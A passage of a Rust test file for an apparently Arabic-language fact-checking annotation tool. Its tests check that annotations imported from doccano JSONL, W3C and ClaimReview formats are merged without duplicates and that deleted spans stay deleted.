    .collect::<Vec<_>>()
    .join("\n");
    let parsed = import(&file).expect("imports");
    let got: Vec<(String, Kind)> = parsed
        .annotations
        .iter()
        .map(|x| {
            assert!(!x.orphan);
            (
                slice_cp(&a.text, x.span().start, x.span().end).to_string(),
                x.kind.clone(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            (ADVICE.to_string(), Kind::Claim),
            (
                "المخابرات الروسية".to_string(),
                Kind::Entity("russia".into())
            ),
            ("بشار الأسد".to_string(), Kind::Entity("al-assad".into())),
        ]
    );
    assert!(parsed
        .annotations
        .iter()
        .all(|x| x.id.starts_with("urn:hamish:doccano:") && !x.id.contains('#')));
    let reasons: Vec<(usize, RejectReason)> = parsed
        .rejected
        .iter()
        .map(|r| (r.index, r.reason.clone()))
        .collect();
    let foreign = RejectReason::Foreign;
    assert_eq!(
        reasons,
        [
            (3, RejectReason::UnknownEntity("PERSON".into())),
            (5, foreign(ForeignReason::NotInArticle)),
            (6, foreign(ForeignReason::BadSpan)),
            (7, foreign(ForeignReason::BadSpan)),
            (8, foreign(ForeignReason::BadLine)),
        ]
    );
    for (_, reason) in reasons {
        assert!(!Lang::Ar.reject_reason(&reason).is_empty());
    }
}

#[test]
fn hamish_jsonl_imports_back_with_verdicts() {
    let a = article();
    let parsed = import(&write(Format::Jsonl)).expect("imports");
    let got: Vec<(String, Kind, Option<String>)> = parsed
        .annotations
        .iter()
        .map(|x| {
            (
                slice_cp(&a.text, x.span().start, x.span().end).to_string(),
                x.kind.clone(),
                x.claim.verdict.clone(),
            )
        })
        .collect();
    assert_eq!(got.len(), 6);
    assert!(got.contains(&(LONG.to_string(), Kind::Claim, Some("false".into()))));
    assert!(got.contains(&(
        "بشار الأسد".to_string(),
        Kind::Entity("al-assad".into()),
        None
    )));
    assert!(parsed.rejected.is_empty());
}

/// A file of spans (doccano's JSONL) does not bring back what was deleted here: a span of the kind
/// and place of a deleted annotation stays deleted, and is counted so — through a reload (the
/// deletion's tombstone names the place), an entity's deletion and an undo's redo; undoing the
/// deletion (the annotation back) lets the span be that annotation again.
#[test]
fn jsonl_does_not_bring_back_what_was_deleted_here() {
    use hamish::core::annotations::state::{Action, Notice, State};
    let file = write(Format::Jsonl);
    let imported = |s: &mut State| {
        s.apply(Action::Import(import(&file).expect("imports")));
        match s.notices.last() {
            Some(Notice::Imported { merged, .. }) => (merged.added, merged.deleted_here),
            other => panic!("{other:?}"),
        }
    };
    let mut s = State::default();
    assert_eq!(imported(&mut s), (6, 0));
    let quote = |a: &Annotation| a.target.exact.clone();
    let id_of = |s: &State, exact: &str| {
        let found = s.annotations.iter().find(|a| a.target.exact == exact);
        found.map(|a| a.id.clone()).expect("there")
    };
    let long = id_of(&s, LONG);
    s.apply(Action::Delete {
        id: long.clone(),
        at: "2026-12-01T00:00:00Z".into(),
    });
    assert_eq!(imported(&mut s), (0, 1));
    assert!(s.annotations.iter().all(|a| quote(a) != LONG));
    // As stored and read again (a reload): the tombstone keeps the place.
    let stored = hamish::core::storage::entry::Stored {
        annotations: s.annotations.to_vec(),
        deleted: s.deleted.to_vec(),
        ..Default::default()
    };
    let text = hamish::core::storage::entry::encode("a", &stored);
    let hamish::core::storage::entry::Decoded::Stored(read) =
        hamish::core::storage::entry::decode(Some(&text))
    else {
        panic!("reads")
    };
    let mut reloaded = State {
        annotations: Rc::new(read.annotations),
        deleted: Rc::new(read.deleted),
        ..State::default()
    };
    assert_eq!(imported(&mut reloaded), (0, 1));
    assert!(reloaded.annotations.iter().all(|a| quote(a) != LONG));
    // Undone, the claim is back, and the span is it again (no copy, no deletion counted).
    s.apply(Action::Undo {
        at: "2026-12-01T00:01:00Z".into(),
    });
    assert_eq!(imported(&mut s), (0, 0));
    assert_eq!(s.annotations.iter().filter(|a| quote(a) == LONG).count(), 1);
    // Redone: deleted again, and it stays deleted.
    s.apply(Action::Redo {
        at: "2026-12-01T00:02:00Z".into(),
    });
    assert_eq!(imported(&mut s), (0, 1));
    // The tags of a deleted entity stay deleted too.
    s.apply(Action::DeleteEntity {
        id: "al-assad".into(),
        replacement: None,
        modified: "2026-12-01T00:03:00Z".into(),
        elsewhere: Vec::new(),
    });
    assert!(s
        .annotations
        .iter()
        .all(|a| a.kind != Kind::Entity("al-assad".into())));
    assert_eq!(imported(&mut s), (0, 2));
    assert!(s
        .annotations
        .iter()
        .all(|a| a.kind != Kind::Entity("al-assad".into())));
}

/// A deletion's place holds unless an annotation on those words (of any kind) was changed after it:
/// one put back by an undo in one tab, whose tombstone for the place another tab's save brings back,
/// then retagged, does not keep the file's span out.
#[test]
fn a_place_deleted_then_changed_again_does_not_keep_a_span_out() {
    let a = article();
    let (start, end) = span_of(&a.text, "روسيا");
    let line = json!({ "text": a.text, "label": [[start, end, "claim"]] }).to_string();
    let grave = hamish::core::annotations::model::Tombstone {
        id: format!("place:{start}:{end}:"),
        deleted: "2026-12-01T00:02:00Z".into(),
    };
    for (modified, buried) in [("2026-12-01T00:03:00Z", 0), ("2026-12-01T00:01:00Z", 1)] {
        let mut tag = annotate(&a, "روسيا", Kind::Entity("russia".into()), "u:tag");
        tag.modified = modified.into();
        let mut parsed = import(&line).expect("imports");
        let got = same_spans(
            &[tag],
            &mut parsed.annotations,
            std::slice::from_ref(&grave),
        );
        assert_eq!(got, (buried, 0, buried), "{modified}");
        assert_eq!(parsed.annotations.len(), 1 - buried);
    }
}

/// Hamish's own JSONL, imported into the article it came from, brings back what is there rather
/// than copies: a span of the same kind as an annotation here is that annotation (a file of spans
/// names none of its own); one of another kind, or one not here, is added; a span listed twice in
/// the file comes in once.
#[test]
fn jsonl_imported_where_it_came_from_adds_no_copies() {
    let a = article();
    let mut existing = sample(&a);
    let before = existing.clone();
    let mut parsed = import(&write(Format::Jsonl)).expect("imports");
    assert!(parsed.by_span);
    let found = parsed.annotations.len();
    assert_eq!(
        same_spans(&existing, &mut parsed.annotations, &[]),
        (found, 0, 0)
    );
    merge(&mut existing, parsed.annotations, &[], &[]);
    assert_eq!(existing, before);
    // The same file with a claim's verdict changed: still no copy, and the change is counted as
    // not applied (a file of spans is undated).
    let edited = write(Format::Jsonl).replacen("\"false\"", "\"true\"", 1);
    let mut parsed = import(&edited).expect("imports");
    assert_eq!(
        same_spans(&existing, &mut parsed.annotations, &[]),
        (found, 1, 0)
    );

    let (start, end) = span_of(&a.text, "روسيا");
    let line = json!({ "text": a.text, "label": [[start, end, "claim"], [start, end, "russia"], [start, end, "claim"]] })
        .to_string();
    let mut here = vec![annotate(&a, "روسيا", Kind::Claim, "u:here")];
    let mut parsed = import(&line).expect("imports");
    assert_eq!(same_spans(&here, &mut parsed.annotations, &[]), (2, 0, 0));
    assert_eq!(parsed.annotations.len(), 1);
    assert_eq!(parsed.annotations[0].kind, Kind::Entity("russia".into()));
    let merged = merge(&mut here, parsed.annotations, &[], &[]);
    assert_eq!(merged.added, 1);
    // A W3C file names its annotations: it is merged by id only.
    assert!(!import(&write(Format::W3c)).expect("imports").by_span);
}

#[test]
fn doccano_files_are_capped() {
    let line = json!({ "text": "x", "label": [] }).to_string();
    let many = vec![line.as_str(); hamish::core::exchange::doccano::MAX_LINES + 5].join("\n");
    let parsed = import(&many).expect("imports");
    assert_eq!(
        parsed.rejected.last().map(|r| r.reason.clone()),
        Some(RejectReason::Foreign(ForeignReason::TooMany))
    );
    // W3C files are not taken for either format.
    let w3c = json!([{ "type": "Annotation", "id": "urn:x:1", "body": [],
                       "target": { "selector": { "type": "TextQuoteSelector", "exact": ADVICE } } }]);
    assert_eq!(import(&w3c.to_string()).map(|p| p.annotations.len()), Ok(1));
    assert!(import("{\"text\": \"x\"}").is_err());
}

/// A claim judged on Hamish's scale, exported after the reader switched to AraFacts' (which has no
/// "Mostly false"): its label and its rating on the scale it was given on are kept.
#[test]
fn a_verdict_from_a_scale_no_longer_chosen_keeps_its_label_and_rating() {
    let a = article();
    let mut annotations = sample(&a);
    annotations.retain(|x| x.kind == Kind::Claim && !x.orphan);
    annotations.truncate(1);
    annotations[0].claim.verdict = Some("mostly-false".into());
    let (registry, scale, reviewer) = (default_registry(), arafacts_scale(), reviewer());
    let export = Export {
        annotations: &annotations,
        article: &a,
        registry: &registry,
        scale: &scale,
        reviewer: &reviewer,
        arabic: false,
    };
    let review: Value =
        serde_json::from_str(&export.write(Format::ClaimReview, "urn:x:export", NOW)).unwrap();
    let rating = &review["@graph"][0]["reviewRating"];
    assert_eq!(rating["alternateName"], json!("Mostly false"), "{review}");
    assert_eq!(rating["ratingValue"], json!(2));
    assert_eq!(
        (&rating["bestRating"], &rating["worstRating"]),
        (&json!(5), &json!(1))
    );
    let csv = export.write(Format::AraFactsCsv, "urn:x:export", NOW);
    assert!(csv.contains(",Mostly false,"), "{csv}");
}

/// An article opened from a file, a paste or the bundle has a `urn:` id, not a web address: the
/// formats' URL fields are left out or empty rather than holding it (a ClaimReview `url` that is
/// no address is refused by the tools that read it).
#[test]
fn an_article_without_a_web_address_gives_no_urls() {
    let a = crate::common::article();
    assert!(a.source.starts_with("urn:"));
    let review: Value = serde_json::from_str(&write_for(&a, Format::ClaimReview)).expect("JSON");
    let graph = review["@graph"].as_array().cloned().unwrap_or_default();
    assert_eq!(graph.len(), 4);
    for r in &graph {
        // Only the claim whose published fact-check is given has a url: that page.
        let url = r.get("url").and_then(Value::as_str);
        assert!(
            url.is_none() || url == Some("https://factcheck.example/2026/long"),
            "{r}"
        );
        assert!(r["itemReviewed"].get("appearance").is_none(), "{r}");
        assert!(r["claimReviewed"].is_string());
    }
    let csv = write_for(&a, Format::AraFactsCsv);
    let tsv = write_for(&a, Format::CheckThatTsv);
    assert!(!csv.contains("urn:hamish:article") && !tsv.contains("urn:hamish:article"));
}

/// The JSONL of some work imported, then the W3C file of the same work: the W3C annotations are
/// those spans, now with their details, not copies beside them; imported again, nothing changes.
#[test]
fn jsonl_then_the_w3c_file_of_the_same_work_gives_no_copies() {
    use hamish::core::annotations::state::{Action, State};
    let mut s = State::default();
    s.apply(Action::Import(
        import(&write(Format::Jsonl)).expect("imports"),
    ));
    let spans = s.annotations.len();
    assert!(spans > 0);
    let w3c = import(&write(Format::W3c)).expect("imports");
    s.apply(Action::Import(w3c.clone()));
    // (The W3C file also holds the sample's orphan, which a file of spans leaves out; its words are
    // in the article, where it is found.) No two on one place.
    assert_eq!(s.annotations.len(), spans + 1, "no copies");
    let mut places: Vec<String> = s.annotations.iter().filter_map(|x| x.place()).collect();
    places.sort_unstable();
    places.dedup();
    assert_eq!(places.len(), spans + 1);
    let claimed = s
        .annotations
        .iter()
        .filter(|x| x.claim.claimant.is_some() || !x.claim.evidence.is_empty())
        .count();
    assert!(claimed > 0, "the W3C file's details are kept");
    let once = s.annotations.clone();
    s.apply(Action::Import(w3c));
    assert_eq!(s.annotations, once);
    // They take the W3C file's ids: this reader's W3C export, imported where the work came from,
    // adds nothing there either.
    assert!(s
        .annotations
        .iter()
        .all(|x| !x.id.starts_with("urn:hamish:doccano:")));
    let back = write_in(&article(), &s.annotations, &reviewer(), Format::W3c);
    let mut origin = State::default();
    origin.apply(Action::Import(
        import(&write(Format::W3c)).expect("imports"),
    ));
    let before = origin.annotations.len();
    origin.apply(Action::Import(import(&back).expect("imports")));
    assert_eq!(
        origin.annotations.len(),
        before,
        "no copies where it came from"
    );
}

/// A file from another tool that numbers its annotations 1, 2, … imported over one that did the
/// same: an id that names an annotation here on other words neither replaces it nor is kept out;
/// it is added under an id of its own, counted, and imported again changes nothing.
#[test]
fn an_id_that_names_another_annotation_here_is_added_beside_it() {
    use hamish::core::annotations::state::{Action, Notice, State};
    let a = article();
    let file = |items: Vec<(&str, &str, &str)>| {
        let items: Vec<Value> = items
            .into_iter()
            .map(|(id, quote, modified)| {
                json!({ "@context": "http://www.w3.org/ns/anno.jsonld", "type": "Annotation", "id": id,
                        "modified": modified, "body": [{ "type": "TextualBody", "purpose": "classifying", "value": "claim" }],
                        "target": { "source": a.source, "selector": { "type": "TextQuoteSelector", "exact": quote } } })
            })
            .collect();
        Value::Array(items).to_string()
    };
    let mut s = State::default();
    let first = file(vec![
        ("1", "روسيا", "2026-11-01T00:00:00Z"),
        ("2", "سوريا", "2026-11-01T00:00:00Z"),
    ]);
    s.apply(Action::Import(import(&first).expect("imports")));
    assert_eq!(s.annotations.len(), 2);
    // One dated later, one earlier: both on other words.
    let second = file(vec![
        ("1", "بشار الأسد", "2026-11-02T00:00:00Z"),
        ("2", "حمام دم", "2026-10-01T00:00:00Z"),
    ]);
    s.apply(Action::Import(import(&second).expect("imports")));
    let mut words: Vec<&str> = s
        .annotations
        .iter()
        .map(|x| x.target.exact.as_str())
        .collect();
    words.sort_unstable();
    assert_eq!(words, ["بشار الأسد", "حمام دم", "روسيا", "سوريا"]);
    let renamed = s.notices.iter().find_map(|n| match n {
        Notice::Imported { merged, .. } => Some(merged.renamed),
        _ => None,
    });
    assert_eq!(renamed, Some(2));
    let once = s.annotations.clone();
    s.apply(Action::Import(import(&second).expect("imports")));
    assert_eq!(s.annotations, once);
    // The same annotation, re-found on overlapping words and dated later, still updates in place.
    let third = file(vec![("1", "روسيا بإقناع", "2026-11-03T00:00:00Z")]);
    s.apply(Action::Import(import(&third).expect("imports")));
    assert_eq!(s.annotations.len(), 4);
    assert!(s
        .annotations
        .iter()
        .any(|x| x.id == "1" && x.target.exact == "روسيا بإقناع"));
}

/// A W3C file of another article, imported here: nothing of it is found, and every annotation names
/// the other article, so it is refused whole, naming that article, rather than stored here as orphans.
#[test]
fn a_file_for_another_article_is_refused_naming_it() {
    use hamish::core::exchange::import_into;
    use hamish::core::w3c::import::ImportError;
    let a = article();
    let file = write(Format::W3c);
    let other = Article::from_blocks(
        "other",
        "urn:hamish:other",
        vec![(BlockKind::Paragraph, "نص آخر لا علاقة له بالمقال.".into())],
    );
    let registry = default_registry();
    match import_into(&file, &other, &registry, NOW) {
        Err(ImportError::OtherArticle(source)) => assert_eq!(source, a.source),
        got => panic!("{:?}", got.map(|p| p.annotations.len())),
    }
    assert!(Lang::En
        .import_error(&ImportError::OtherArticle(a.source.clone()))
        .contains("open that article"));
    // Into its own article, or into another that has some of its words: imported.
    assert!(import_into(&file, &a, &registry, NOW).is_ok());
    let paragraph = a
        .blocks
        .iter()
        .find(|b| b.text.contains("المعارضة السورية"))
        .map(|b| b.text.clone())
        .unwrap_or_default();
    let some = Article::from_blocks(
        "some",
        "urn:hamish:some",
        vec![(BlockKind::Paragraph, paragraph)],
    );
    let parsed = import_into(&file, &some, &registry, NOW).expect("imports");
    assert!(parsed.anchored() > 0);
    // Positions alone, or quotes only nearly matched here, are no sign of this article: refused.
    let other_source = |selector: Value| {
        json!([{ "type": "Annotation", "id": "p1", "body": [{ "type": "TextualBody", "purpose": "classifying", "value": "claim" }],
                 "target": { "source": "https://other.example/story", "selector": selector } }])
        .to_string()
    };
    for selector in [
        json!({ "type": "TextPositionSelector", "start": 10, "end": 40 }),
        json!([{ "type": "TextQuoteSelector", "exact": "تونس" }, { "type": "TextPositionSelector", "start": 10, "end": 14 }]),
    ] {
        let got = import_into(&other_source(selector.clone()), &a, &registry, NOW);
        assert!(
            matches!(got, Err(ImportError::OtherArticle(_))),
            "{selector}: {:?}",
            got.map(|p| p.anchored())
        );
    }
}
